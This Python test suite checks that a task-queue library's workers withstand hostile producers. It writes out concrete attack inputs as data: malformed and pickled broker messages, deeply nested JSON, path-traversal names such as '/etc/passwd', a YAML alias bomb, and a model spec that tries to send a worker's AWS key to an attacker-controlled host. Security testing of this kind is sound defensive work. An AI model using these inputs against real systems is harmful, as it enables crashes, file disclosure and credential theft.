"""Hostile producers, played against real Redis and real workers (issue 12; docs/security.md).

Each test is an attack that used to work. A producer (anyone who can publish to the broker or
call `legato.submit`) is less trusted than a worker: it must not crash a worker with a malformed
message, read files outside the pipelines directory, make a worker send a credential to a host of
its choosing, or blow up memory with a YAML alias bomb. After each test every Redis key is
scanned for the secrets the workers hold.
"""

from __future__ import annotations

import json
import threading
import time
import uuid
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from kombu import Connection, Queue

from legato import Legato, Llm, Pipeline
from legato.local import processes
from legato.local.redis_server import RedisServer
from legato.spec import ModelConfig
from tests.integration.test_security import _every_value

# Secrets the hostile-test workers hold in their environment; none may ever reach Redis.
AWS_SECRET = f"aws-{uuid.uuid4().hex}"
MODEL_KEY = f"sk-hostile-{uuid.uuid4().hex}"
HEADER_SECRET = f"hdr-{uuid.uuid4().hex}"
SECRETS = (AWS_SECRET, MODEL_KEY, HEADER_SECRET)


def assert_no_secret_in_redis(server: RedisServer) -> int:
    """Every key of every type, names and contents: no secret value. Returns keys scanned."""
    client = server.client()
    scanned = 0
    for key, value in _every_value(client):
        scanned += 1
        for secret in SECRETS:
            assert secret.encode() not in value, (key, secret[:8])
            assert secret.encode() not in key
    return scanned


@pytest.fixture(autouse=True)
def _scan_redis_after(redis_server: RedisServer) -> Iterator[None]:
    yield
    assert assert_no_secret_in_redis(redis_server) > 0


def _log_count(service: processes.Service, text: str) -> int:
    return service.log_path.read_text(errors="replace").count(text)


# -- poison messages ------------------------------------------------------------------------

def _headers(task: str = "legato.llm", **extra: Any) -> dict[str, Any]:
    return {"task": task, "id": uuid.uuid4().hex, "lang": "py", **extra}


ENVELOPE = {"run_id": "r", "spec_hash": "h", "node": "n", "path": "n"}

# (what it is, body as JSON text, headers): each one used to make the worker exit, or would be
# run with arguments its task cannot take.
POISON: list[tuple[str, str, dict[str, Any]]] = [
    ("body a string", json.dumps("a string"), _headers("legato.finalize")),
    ("body an object", json.dumps({"an": "object"}), _headers("legato.finalize")),
    ("body null", json.dumps(None), _headers("legato.finalize")),
    ("body a two-element list", json.dumps([[], {}]), _headers("legato.finalize")),
    ("body a number", json.dumps(7), _headers()),
    ("args not a list", json.dumps([{}, {}, {}]), _headers()),
    ("embed not an object", json.dumps([[], {"step": ENVELOPE}, []]), _headers()),
    ("callbacks not signatures", json.dumps([[], {"step": ENVELOPE}, {"callbacks": "x"}]),
     _headers()),
    ("chord not a signature", json.dumps([[], {"step": ENVELOPE}, {"chord": 3}]), _headers()),
    ("not JSON", "{not json", _headers()),
    ("nested too deep", "[" * 100_000 + "]" * 100_000, _headers()),
    ("unknown task", json.dumps([[], {}, {}]), _headers("legato.no_such_task")),
    ("no task header", json.dumps([[], {}, {}]), {"id": uuid.uuid4().hex}),
    ("task header a number", json.dumps([[], {}, {}]), {"task": 5, "id": "x"}),
    ("id header a list", json.dumps([[], {"step": ENVELOPE}, {}]),
     {"task": "legato.llm", "id": ["x"]}),
    ("eta not a time", json.dumps([[], {"step": ENVELOPE}, {}]), _headers(eta="tomorrow")),
    ("expires not a time", json.dumps([[], {"step": ENVELOPE}, {}]), _headers(expires="never")),
    ("timelimit not a pair", json.dumps([[], {"step": ENVELOPE}, {}]), _headers(timelimit="x")),
    ("retries a string", json.dumps([[], {"step": ENVELOPE}, {}]), _headers(retries="many")),
    ("missing kwargs", json.dumps([[], {}, {}]), _headers()),
    ("extra kwargs", json.dumps([[], {"step": ENVELOPE, "bogus": 1}, {}]), _headers()),
    ("too many args", json.dumps([[1, 2, 3], {"step": ENVELOPE}, {}]), _headers()),
    ("wrong-type kwarg", json.dumps([[], {"step": "x"}, {}]), _headers()),
    ("forged envelope: a field of the wrong type",
     json.dumps([[], {"step": {**ENVELOPE, "run_id": 1}}, {}]), _headers()),
    ("forged envelope: fields missing", json.dumps([[], {"step": {"run_id": "r"}}, {}]),
     _headers()),
    ("forged batch envelope", json.dumps([[], {"steps": [ENVELOPE, "x"]}, {}]),
     _headers("legato.llm_batch")),
    ("submit with a wrong-type input key", json.dumps(
        [[], {"pipeline": "summarize", "input": {}, "idempotency_key": 5}, {}]),
     _headers("legato.submit")),
    ("pickle", "gARLAS4=", _headers()),  # content type set below: refused, never unpickled
]

# Items pushed onto the queue's Redis list by hand, past kombu: not kombu envelopes at all.
FORGED_ENVELOPES = [
    "garbage", "[1, 2]", "{}", "null",
    json.dumps({"properties": {"delivery_tag": 5}}),
    json.dumps({"properties": {"delivery_tag": "t", "body_encoding": "base64"},
                "body": "!!not base64", "headers": {}}),
    json.dumps({"properties": {"delivery_tag": "t", "delivery_info": []}, "body": None}),
]


def test_poison_messages_are_set_aside_and_the_same_worker_goes_on(stack_env, redis_server,
                                                                    legato, fake, tmp_path):
    queue = f"legato.test.poison.{uuid.uuid4().hex[:8]}"
    client = redis_server.client()
    counted_before = int(client.hget("legato:poisoned", "total") or 0)
    with processes.worker("poisoned", [queue], env=stack_env, concurrency=2,
                          log_dir=tmp_path) as worker:
        pid = worker.pid
        with Connection(redis_server.url) as conn:
            producer = conn.Producer()
            for _, body, headers in POISON:
                content_type = ("application/x-python-serialize" if body == "gARLAS4="
                                else "application/json")
                producer.publish(body, routing_key=queue, content_type=content_type,
                                 content_encoding="utf-8", headers=headers,
                                 declare=[Queue(queue)])
        for item in FORGED_ENVELOPES:
            client.lpush(queue, item)
        expected = len(POISON) + len(FORGED_ENVELOPES)
        deadline = time.monotonic() + 20
        while (_log_count(worker, "poison message set aside") < expected
               and time.monotonic() < deadline and worker.running()):
            time.sleep(0.1)
        assert worker.running(), worker.log_tail()
        # Every one logged exactly once (acknowledged, so never delivered again) and counted.
        time.sleep(1)
        assert _log_count(worker, "poison message set aside") == expected, worker.log_tail(60)
        assert "Unrecoverable error" not in worker.log_path.read_text()
        assert int(client.hget("legato:poisoned", "total") or 0) - counted_before == expected
        dead = [json.loads(d) for d in client.lrange("legato:dead", 0, expected - 1)]
        reasons = {d["reason"] for d in dead}
        assert {"bad body", "bad header", "bad arguments", "unknown task", "not a task message",
                "undecodable body", "invalid task", "forged envelope"} <= reasons
        assert client.llen(queue) == 0  # nothing left to kill the next worker
        assert not any(queue.encode() in v for v in client.hvals("unacked"))

        # A well-formed message naming a run that does not exist fails its task once, logged.
        forged_id = uuid.uuid4().hex
        legato.app.send_task("legato.llm", kwargs={"step": {**ENVELOPE, "spec_hash": "nope"}},
                             queue=queue, task_id=forged_id)
        deadline = time.monotonic() + 10
        while _log_count(worker, f"{forged_id}] raised") < 1 and time.monotonic() < deadline:
            time.sleep(0.1)
        time.sleep(1)
        assert _log_count(worker, f"{forged_id}] received") == 1

        # The same process, still up, runs a normal job to the end.
        job = Pipeline(name="after_poison", steps=[
            Llm(id="a", model="small", queue=queue, prompt="Say {{ input.word }}"),
            Llm(id="b", model="small", queue=queue, prompt="Again: {{ outputs.a }}")])
        run = legato.wait(legato.submit(job, {"word": "hello"}), timeout=30)
        assert run.status == "succeeded", run.error
        assert all(s.worker.startswith("poisoned@") for s in legato.steps(run.id))
        assert worker.running() and worker.pid == pid


# -- pipelines by name only, over the wire ---------------------------------------------------

ALIAS_BOMB = "\n".join([
    "input_schema:", "  type: object", "  properties:",
    '    a: &a {type: string, description: "lol"}',
    *[f"    {n}: &{n} [" + ", ".join([f"*{p}"] * 9) + "]"
      for p, n in zip("abcdefgh", "bcdefghi", strict=True)],
    "steps:", "  - {id: s, kind: llm, model: small, prompt: hi, params: {x: *i}}", ""])


@pytest.fixture
def gatekeeper(stack_env, tmp_path) -> Iterator[tuple[str, Path, processes.Service]]:
    """A control worker with a pipelines directory of its own, beside files it must not serve."""
    pipes = tmp_path / "pipelines"
    (pipes / "sub").mkdir(parents=True)
    root = Path(stack_env["LEGATO_PIPELINES_DIR"])
    for name in ("models.yaml", "summarize.yaml"):
        (pipes / name).write_text((root / name).read_text())
    secret = "db_password: hunter2-" + uuid.uuid4().hex + "\nsteps: []\n"
    (tmp_path / "outside.yaml").write_text(secret)
    (pipes / "sub" / "inner.yaml").write_text((root / "summarize.yaml").read_text())
    (pipes / "escape.yaml").symlink_to(tmp_path / "outside.yaml")
    (pipes / "bomb.yaml").write_text(ALIAS_BOMB)
    (pipes / "deep.json").write_text('{"steps": ' + "[" * 5000 + "]" * 5000 + "}")
    queue = f"legato.test.gate.{uuid.uuid4().hex[:8]}"
    env = {**stack_env, "LEGATO_PIPELINES_DIR": str(pipes)}
    with processes.worker("gatekeeper", [queue], env=env, concurrency=2,
                          log_dir=tmp_path) as worker:
        yield queue, tmp_path, worker


def _submit_refused(legato: Legato, queue: str, pipeline: Any) -> tuple[str, str]:
    """Send legato.submit; return the error the client gets and the stored result, raw."""
    reply = legato.app.send_task("legato.submit", queue=queue, kwargs={
        "pipeline": pipeline, "input": {"text": "x"}})
    with pytest.raises(Exception) as info:  # noqa: PT011 - the client sees a rebuilt type
        reply.get(timeout=20)
    raw = legato.store.redis.get(legato.app.backend.get_key_for_task(reply.id))
    return str(info.value), raw if isinstance(raw, str) else (raw or b"").decode()


def test_submit_over_the_wire_takes_names_only_and_errors_leak_nothing(legato, gatekeeper,
                                                                        fake):
    queue, tmp_path, worker = gatekeeper
    runs_before = len(legato.runs(limit=1000))
    attacks = {
        "../outside": "../outside: unknown pipeline",
        str(tmp_path / "outside.yaml"): f"{str(tmp_path / 'outside.yaml')[:100]}: unknown "
                                        "pipeline",
        "sub/inner": "sub/inner: unknown pipeline",
        "escape": "escape: unknown pipeline",  # a symlink out of the directory
        "models": "models: unknown pipeline",
        "summarize.yaml": "summarize.yaml: unknown pipeline",
        "nope": "nope: unknown pipeline",  # and no list of what is there
        "": "unknown pipeline",
        "..": "..: unknown pipeline",
        "/etc/passwd": "/etc/passwd: unknown pipeline",
    }
    for name, expected in attacks.items():
        error, raw = _submit_refused(legato, queue, name)
        assert error == expected, name
        leaks = ["hunter2", "db_password", "known:", "Traceback", ".py"]
        leaks += [] if "summarize" in name else ["summarize"]  # no listing of the directory
        leaks += [] if name.startswith(str(tmp_path)) else [str(tmp_path)]
        for leak in leaks:
            assert leak not in raw, (name, leak)
        assert json.loads(raw)["traceback"] is None
    # Files too big once their aliases expand, or too deep, are refused in one line, by name.
    error, raw = _submit_refused(legato, queue, "bomb")
    assert error == ("bomb.yaml: refused: more than 100000 nodes once its aliases are expanded "
                     "(an alias bomb?)")
    error, raw = _submit_refused(legato, queue, "deep")
    assert error == "deep.json:line 1: refused: nested deeper than 64 levels"
    assert str(tmp_path) not in raw and "Traceback" not in raw
    # A name that is not a string never reaches the loader: the message is refused, and the
    # client waiting on it is told so (instead of waiting forever).
    error, raw = _submit_refused(legato, queue, ["summarize"])
    assert error.startswith("message refused: bad arguments: legato.submit: pipeline")
    assert len(legato.runs(limit=1000)) == runs_before  # nothing was written
    # The same worker, still up, runs a pipeline named as it should be.
    reply = legato.app.send_task("legato.submit", queue=queue, kwargs={
        "pipeline": "summarize", "input": {"text": "by name"}})
    assert legato.wait(reply.get(timeout=20)["run_id"], timeout=30).status == "succeeded"
    assert worker.running()


# -- credentials stay worker-side ------------------------------------------------------------

class _Listener:
    """An HTTP server a producer controls (or the provider): records every request it gets and
    answers like a chat model — or, with `echo_key`, with a 401 that echoes the key it got."""

    def __init__(self, name: str) -> None:
        self.seen: list[tuple[dict[str, str], str]] = []
        self.echo_key = False
        listener = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:  # noqa: N802
                body = self.rfile.read(int(self.headers.get("Content-Length", 0))).decode()
                listener.seen.append((dict(self.headers.items()), body))
                if listener.echo_key:
                    status, reply = 401, {"error": {"message": "Incorrect API key provided: "
                                          + self.headers.get("Authorization", "").split()[-1]
                                          + f"; header was {self.headers.get('X-Team', '')}"}}
                else:
                    status, reply = 200, {
                        "choices": [{"message": {"content": f"[{name}] ok"},
                                     "finish_reason": "stop"}],
                        "usage": {"prompt_tokens": 1, "completion_tokens": 1}}
                data = json.dumps(reply).encode()
                self.send_response(status)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/v1"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def everything(self) -> str:
        return "\n".join(json.dumps(h) + "\n" + b for h, b in self.seen)

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def keeper(stack_env, tmp_path) -> Iterator[tuple[str, _Listener, _Listener, Path, Any]]:
    """A worker holding secrets: a model key and a header secret for its `small` alias (at the
    provider), and an AWS key in its environment that no model is paired with."""
    provider, attacker = _Listener("provider"), _Listener("attacker")
    models = tmp_path / "worker-models.yaml"
    models.write_text(
        "models:\n"
        "  small:\n"
        f"    base_url: {provider.url}\n"
        "    model: smollm2\n"
        "    api_key_env: LEGATO_MODEL_API_KEY\n"
        "    headers: {X-Team: '${TEAM_HEADER_SECRET}'}\n"
        "    max_attempts: 1\n")
    queue = f"legato.test.keys.{uuid.uuid4().hex[:8]}"
    env = {**stack_env, "LEGATO_MODELS_FILE": str(models), "AWS_SECRET_ACCESS_KEY": AWS_SECRET,
           "LEGATO_MODEL_API_KEY": MODEL_KEY, "TEAM_HEADER_SECRET": HEADER_SECRET}
    try:
        with processes.worker("keeper", [queue], env=env, concurrency=2,
                              log_dir=tmp_path) as worker:
            yield queue, provider, attacker, models, worker
    finally:
        provider.close()
        attacker.close()


def test_a_producer_cannot_send_a_workers_credentials_to_its_own_host(legato, keeper,
                                                                       monkeypatch):
    queue, provider, attacker, models, worker = keeper
    # The producer has the header secret too: it must not expand it into the stored spec.
    monkeypatch.setenv("TEAM_HEADER_SECRET", HEADER_SECRET)
    monkeypatch.delenv("LEGATO_MODEL_API_KEY", raising=False)
    from legato.settings import replace

    producer = Legato(replace(legato.settings, models_file=str(models)), app=legato.app)

    def run(models_: dict[str, ModelConfig] | None, alias: str) -> Any:
        pipeline = Pipeline(name="exfil", models=models_ or {}, steps=[
            Llm(id="call", model=alias, queue=queue, prompt="hello")])
        return producer.wait(producer.submit(pipeline, {}), timeout=30)

    # 1. An ad-hoc alias at the attacker's host naming the worker's AWS key: refused, no call.
    evil = ModelConfig(base_url=attacker.url, model="m", api_key_env="AWS_SECRET_ACCESS_KEY",
                       max_attempts=1)
    refused = run({"evil": evil}, "evil")
    assert refused.status == "failed"
    assert "does not pair api_key_env 'AWS_SECRET_ACCESS_KEY'" in (refused.error or "")
    # ... nor with the worker's model key, nor with a header asking for the AWS key.
    assert run({"evil": evil.model_copy(update={"api_key_env": "LEGATO_MODEL_API_KEY"})},
               "evil").status == "failed"
    assert attacker.seen == []
    sneaky = run({"evil": evil.model_copy(update={
        "api_key_env": None, "headers": {"X-Steal": "${AWS_SECRET_ACCESS_KEY}"}})}, "evil")
    # An endpoint of its own, with nothing of the worker's.
    assert sneaky.status == "succeeded", sneaky.error
    assert len(attacker.seen) == 1
    headers, _ = attacker.seen[0]
    assert headers["X-Steal"] == "${AWS_SECRET_ACCESS_KEY}" and "Authorization" not in headers
    # 2. The worker's own alias, re-pointed at the attacker in the spec: the worker's config
    # wins — its endpoint, its key, its header.
    hijacked = run({"small": evil.model_copy(update={"headers": {"X-Team": "mine"}})}, "small")
    assert hijacked.status == "succeeded" and hijacked.output == "[provider] ok"
    assert len(attacker.seen) == 1
    headers, _ = provider.seen[-1]
    assert headers["Authorization"] == f"Bearer {MODEL_KEY}"
    assert headers["X-Team"] == HEADER_SECRET  # expanded on the worker, at call time
    # 3. By name through the producer's models file: the spec pins `${TEAM_HEADER_SECRET}`.
    named = run(None, "small")
    assert named.status == "succeeded"
    spec = legato.store.get_spec(legato.status(named.id).spec_hash)
    assert spec.models["small"].headers == {"X-Team": "${TEAM_HEADER_SECRET}"}
    # 4. A provider error that echoes the key and the header: redacted before it is stored.
    provider.echo_key = True
    echoed = run(None, "small")
    assert echoed.status == "failed" and "HTTP 401" in (echoed.error or "")
    assert MODEL_KEY in provider.everything()  # the provider did get (and echo) the key ...
    assert "[redacted]" in (echoed.error or "")
    for secret in SECRETS:  # ... but no error, record or log line holds it
        assert secret not in (echoed.error or "")
        assert secret not in worker.log_path.read_text(errors="replace")
    assert AWS_SECRET not in attacker.everything() + provider.everything()
    assert HEADER_SECRET not in attacker.everything()
